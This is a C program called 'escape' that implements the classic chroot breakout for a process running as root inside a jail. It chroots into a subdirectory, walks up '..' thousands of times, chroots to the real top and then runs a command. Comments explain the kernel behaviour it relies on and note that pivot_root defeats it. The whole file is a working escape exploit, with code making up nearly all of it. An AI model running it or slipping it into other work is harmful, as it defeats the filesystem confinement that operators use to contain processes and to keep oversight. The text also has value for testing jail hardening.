/* escape - the classic way out of a chroot, for whoever is root inside.
 *
 *     escape [COMMAND [ARGUMENT...]]
 *
 * Two rules of the kernel, each reasonable, together make the hole (see chroot(2)):
 *   - chroot changes the root directory of a process, not its working directory;
 *   - ".." stops at the root directory, and nowhere else.
 * So we move our root below the place where we stand.  The way up then passes it by
 * and ends at the top of all that is mounted.
 *
 * After pivot_root(2), step 2, it fails: the old root is no longer mounted in our
 * mount namespace, so the top is the jail's root itself, and ".." there is ".". */
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static int held(const char *why)
{
    printf("held: %s%s\n", why, errno ? strerror(errno) : "still in the jail");
    return 1;
}

/* Move the root below the working directory.  On a read-only root "break" can't be made,
 * but any other directory will do. */
static int sink(void)
{
    static const char *const below[] = {"break", "proc", "bin", "usr", "etc", NULL};
    int made = mkdir("break", 0700) == 0, result = -1;

    for (int i = 0; below[i] && result < 0 && (i == 0 || errno == ENOENT); i++)
        result = chroot(below[i]);
    int error = errno;
    if (made)
        rmdir("break"); /* its name is not needed any more, not even by those whose root it is */
    errno = error;
    return result;
}

int main(int argc, char *argv[])
{
    static char *list[] = {"ls", "/", NULL};
    char **command = argc > 1 ? &argv[1] : list;
    struct stat jail, now;

    if (chdir("/") < 0 || stat("/", &jail) < 0 || sink() < 0)
        return held("chroot: ");
    for (int i = 0; i < 4096; i++) /* deeper than any path: at the top ".." stays where it is */
        if (chdir("..") < 0)
            return held("chdir: ");
    if (chroot(".") < 0 || stat("/", &now) < 0)
        return held("chroot: ");
    errno = 0;
    if (now.st_dev == jail.st_dev && now.st_ino == jail.st_ino)
        return held("");
    printf("escaped: / is now device %u:%u inode %ju\n", major(now.st_dev), minor(now.st_dev),
           (uintmax_t)now.st_ino);
    fflush(stdout);
    execvp(command[0], command);
    perror(command[0]);
    return 127;
}
